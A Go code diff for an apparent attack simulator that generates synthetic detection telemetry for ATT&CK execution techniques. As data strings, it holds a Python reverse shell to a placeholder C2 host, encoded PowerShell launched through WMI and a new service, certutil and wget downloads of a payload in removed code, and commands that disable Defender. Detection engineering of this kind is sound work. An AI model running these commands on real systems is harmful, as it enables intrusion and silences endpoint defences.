@@ -24,23 +24,75 @@ var execution = []*Technique{
 		ready: needLinux, run: runShell,
 	},
 	{
-		ID: "T1105", Name: "Ingress Tool Transfer", Tactic: "command-and-control", Platforms: []string{"windows", "linux"},
-		Needs: "a foothold with a way out", Effect: "tools lie on the host",
-		Telemetry: []string{"windows/sysmon 1 3 11 22", "linux/auditd", "zeek", "proxy"}, Tools: []string{"certutil", "bitsadmin", "powershell"}, Takes: sim.LogNormal(time.Minute, 0.8), Success: 0.97,
-		ready: needFoothold, run: fetchTools,
+		ID: "T1059.003", Name: "Command and Scripting Interpreter: Windows Command Shell", Tactic: "execution", Effect: "a batch of the attacker has run",
+		Takes: sim.LogNormal(40*time.Second, 0.7), Success: 0.98,
+		script: &script{at: onWindows, variants: []variant{
+			by("redirected output", cmd(world.Cmd, `cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1710154230.56 2>&1`)),
+			by("obfuscated", cmd(world.Cmd, `cmd.exe /c "s^e^t x=p^ow^er^sh^ell&&call %x% -w hidden"`)),
+			by("batch file", cmd(world.Cmd, `cmd.exe /c C:\Users\Public\run.bat`)),
+		}},
 	},
 	{
-		ID: "T1071.001", Name: "Application Layer Protocol: Web Protocols", Tactic: "command-and-control", Platforms: []string{"windows", "linux"},
-		Needs: "an implant", Effect: "the implant calls home at intervals",
-		Telemetry: []string{"zeek/conn", "zeek/ssl", "windows/sysmon 3"}, Tools: []string{"60 s", "300 s with jitter"}, Takes: sim.LogNormal(time.Minute, 0.5), Success: 0.99,
-		ready: needFoothold, run: callHome,
+		ID: "T1059.005", Name: "Command and Scripting Interpreter: Visual Basic", Tactic: "execution", Effect: "a script of the attacker has run",
+		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.97,
+		script: &script{at: onWindows, variants: []variant{
+			by("wscript", cmd(world.Wscript, `wscript.exe //B "C:\Users\{user}\AppData\Local\Temp\invoice.vbs"`), child(world.Cmd, `cmd.exe /c whoami`)),
+			by("cscript", cmd(world.Cscript, `cscript.exe //E:vbscript C:\ProgramData\report.txt`)),
+		}},
 	},
 	{
-		ID: "T1562.001", Name: "Impair Defenses: Disable or Modify Tools", Tactic: "defense-evasion", Platforms: []string{"windows"},
-		Needs: "an elevated foothold on Windows", Effect: "the endpoint agent on the host may be silent from then on",
-		Telemetry: []string{"windows/sysmon 1 13", "windows/powershell 4104"}, Tools: []string{"Set-MpPreference", "registry", "service stop"}, Takes: sim.LogNormal(2*time.Minute, 0.7), Success: 0.8,
-		ready: needElevated, run: impairDefences,
+		ID: "T1059.006", Name: "Command and Scripting Interpreter: Python", Tactic: "execution", Effect: "a script of the attacker has run",
+		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.97,
+		script: &script{at: onLinux, variants: []variant{
+			by("reverse shell", sh(world.Python, `python3 -c import socket,os,pty;s=socket.socket();s.connect(("{c2ip}",4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")`), connect("", 443, "", 2e3, 4e3)),
+			by("encoded", sh(world.Python, `python3 -c import base64;exec(base64.b64decode("aW1wb3J0IG9z"))`)),
+			by("script", sh(world.Python, "python3 /tmp/.cache/run.py")),
+		}},
 	},
+	{
+		ID: "T1059.007", Name: "Command and Scripting Interpreter: JavaScript", Tactic: "execution", Effect: "a script of the attacker has run",
+		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.97,
+		script: &script{at: onWindows, variants: []variant{
+			by("wscript", under(world.Chrome, world.Wscript, `"C:\Windows\System32\WScript.exe" "C:\Users\{user}\Downloads\Update_browser.js"`), connect("", 443, "ssl", 2e3, 90e3)),
+			by("hidden extension", cmd(world.Cscript, `cscript.exe //E:jscript "C:\Users\{user}\AppData\Roaming\Adobe\log.txt"`)),
+		}},
+	},
+	{
+		ID: "T1047", Name: "Windows Management Instrumentation", Tactic: "execution", Effect: "a program was started through WMI",
+		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.97,
+		script: &script{at: onWindows, variants: []variant{
+			by("wmic process call", cmd(world.Wmic, `wmic.exe process call create "cmd.exe /c powershell -nop -w hidden -c iex(Get-Content C:\Users\Public\a.txt)"`), under(world.WmiPrvSE, world.Cmd, `cmd.exe /c powershell -nop -w hidden`)),
+			by("Invoke-WmiMethod", powershell(`Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'cmd.exe /c C:\Users\Public\agent.exe'`), under(world.WmiPrvSE, world.PowerShell, `powershell.exe -c Get-Process`)),
+		}},
+	},
+	{
+		ID: "T1204.002", Name: "User Execution: Malicious File", Tactic: "execution", Effect: "somebody opened what he should not have",
+		Takes: sim.LogNormal(10*time.Minute, 0.9), Success: 0.9,
+		script: &script{at: onWindows, variants: []variant{
+			by("macro", under(world.Winword, world.Cmd, `cmd.exe /c certutil -decode %TEMP%\a.txt %TEMP%\a.exe`), load(`C:\Users\{user}\AppData\Local\Temp\a.dll`)),
+			by("double extension", under(world.Explorer, world.Dropped(`C:\Users\Public\Downloads\Invoice_2026.pdf.exe`, &plain), `"C:\Users\{user}\Downloads\Invoice_2026.pdf.exe"`)),
+			by("shortcut", under(world.Explorer, world.Cmd, `"C:\Windows\System32\cmd.exe" /c start "" "%TEMP%\viewer.exe"`)),
+		}},
+	},
+	{
+		ID: "T1569.002", Name: "System Services: Service Execution", Tactic: "execution", Effect: "a program ran as a service",
+		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.96,
+		script: &script{at: onElevated, variants: []variant{
+			by("sc create and start", cmd(world.Sc, `sc.exe create UpdSvc binPath= "cmd.exe /c powershell -nop -w hidden -enc JABzAD0A" start= demand`), installService("UpdSvc", `cmd.exe /c powershell -nop -w hidden -enc JABzAD0A`), cmd(world.Sc, `sc.exe start UpdSvc`), asSystem(world.Services, world.Cmd, `cmd.exe /c powershell -nop -w hidden -enc JABzAD0A`)),
+			by("psexec on the host", cmd(world.PsExec, `PsExec64.exe -accepteula -s cmd.exe /c whoami`), installService("PSEXESVC", `%SystemRoot%\PSEXESVC.exe`), asSystem(world.PsExecSvc, world.Cmd, `cmd.exe /c whoami`)),
+		}},
+	},
+}
+
+// plain is where programs that every trial shares draw their digests from.
+var plain = sim.NewStreams(0, 0).Stream("technique", "programs")
+
+// installService registers a service on the host.
+func installService(name, image string) move {
+	return move{"windows/system 7045, windows/security 4697", func(a *Attempt, f *Foothold) world.Refusal {
+		a.World.InstallService(a.Now, a.Actor, f.Host, f.Account, name, image)
+		return world.Refusal{}
+	}}
 }
 
 // encoded is a script as powershell -enc takes it: base64 of UTF-16LE.
@@ -108,92 +160,8 @@ func runShell(a *Attempt) Progress {
 		a.World.Flow(a.Now, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Sent: 900, Received: 30e3, Duration: time.Second})
 	} else {
 		a.start(f, world.Chmod, "chmod +x /dev/shm/.x")
+		a.start(f, world.UnixProgram("/usr/bin/nohup"), "nohup /dev/shm/.x")
 		a.start(f, &world.Binary{Path: "/dev/shm/.x"}, "/dev/shm/.x")
 	}
 	return success("script ran on %s", f.Host.Name)
-}
-
-func fetchTools(a *Attempt) Progress {
-	f := a.Current()
-	if f == nil {
-		return failure("%s", errNoFoothold)
-	}
-	to := a.C2()
-	a.World.Resolve(a.Now, a.Actor, f.Host, nil, to.Domain, "A", to.Address)
-	if r := a.World.Reach(world.At(f.Host), to, 443); !r.OK() {
-		return blocked(r)
-	}
-	url := "https://" + to.Domain + "/tools/agent.bin"
-	var p *world.Process
-	switch {
-	case !f.Host.Windows():
-		p = a.start(f, world.Wget, "wget -q "+url+" -O /tmp/.agent")
-		a.start(f, world.Chmod, "chmod 777 /tmp/.agent")
-	case a.Tool == "certutil":
-		p = a.start(f, world.Certutil, "certutil.exe -urlcache -split -f "+url+` C:\Users\Public\agent.exe`)
-		a.World.CreateFile(a.Now+3*time.Second, a.Actor, p, `C:\Users\Public\agent.exe`)
-	case a.Tool == "bitsadmin":
-		p = a.start(f, world.Bitsadmin, "bitsadmin.exe /transfer job /download /priority high "+url+` C:\Users\Public\agent.exe`)
-		a.World.CreateFile(a.Now+9*time.Second, a.Actor, p, `C:\Users\Public\agent.exe`)
-	default:
-		p = a.start(f, world.PowerShell, `powershell.exe -c "Invoke-WebRequest `+url+` -OutFile C:\Users\Public\agent.exe"`)
-		a.World.CreateFile(a.Now+3*time.Second, a.Actor, p, `C:\Users\Public\agent.exe`)
-	}
-	a.World.Flow(a.Now+time.Second, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Process: p, Sent: 2e3, Received: 3e6, Duration: 4 * time.Second})
-	a.World.TLS(a.Now+time.Second, a.Actor, world.At(f.Host), to, 443, to.Domain, a.Hello, "CN="+to.Domain, "CN="+to.Domain, false)
-	return success("tools fetched to %s", f.Host.Name)
-}
-
-// callHome is the implant's beacon for a while: intervals with jitter that only
-// shortens them (Fox-IT 2020).
-func callHome(a *Attempt) Progress {
-	f := a.Current()
-	if f == nil {
-		return failure("%s", errNoFoothold)
-	}
-	to := a.C2()
-	if r := a.World.Reach(world.At(f.Host), to, 443); !r.OK() {
-		return blocked(r)
-	}
-	if a.Round == 0 {
-		a.Count = 10 + a.Rand.IntN(20)
-		a.World.Resolve(a.Now, a.Actor, f.Host, nil, to.Domain, "A", to.Address)
-	}
-	var p *world.Process
-	if f.Implant != nil {
-		p = f.Implant.Process
-	}
-	a.World.Flow(a.Now, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Process: p, Sent: 600 + uint64(a.Rand.IntN(80)), Received: 900 + uint64(a.Rand.IntN(200)), Duration: time.Second})
-	a.World.TLS(a.Now, a.Actor, world.At(f.Host), to, 443, to.Domain, a.Hello, "CN="+to.Domain, "CN="+to.Domain, false)
-	if a.Round >= a.Count {
-		return success("%d calls home from %s", a.Round+1, f.Host.Name)
-	}
-	interval, jitter := time.Minute, 0.0
-	if a.Tool == "300 s with jitter" {
-		interval, jitter = 5*time.Minute, 0.4
-	}
-	return again(time.Duration(float64(interval) * (1 - jitter*a.Rand.Float64())))
-}
-
-func impairDefences(a *Attempt) Progress {
-	f := a.Where(true, true)
-	if f == nil {
-		return failure("%s", errNotElevated)
-	}
-	switch a.Tool {
-	case "Set-MpPreference":
-		line := "Set-MpPreference -DisableRealtimeMonitoring $true"
-		a.start(f, world.PowerShell, `powershell.exe -c "`+line+`"`)
-		a.World.RunScript(a.Now+time.Second, a.Actor, f.Host, line)
-	case "registry":
-		p := a.start(f, world.Reg, `reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`)
-		a.World.SetRegistryValue(a.Now+time.Second, a.Actor, p, `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`, "DWORD (0x00000001)")
-	default:
-		a.start(f, world.Sc, "sc stop WinDefend")
-	}
-	if a.failed {
-		return failure("tamper protection on %s held", f.Host.Name)
-	}
-	f.Host.Agent = false
-	return success("the agent on %s is silent", f.Host.Name)
 }
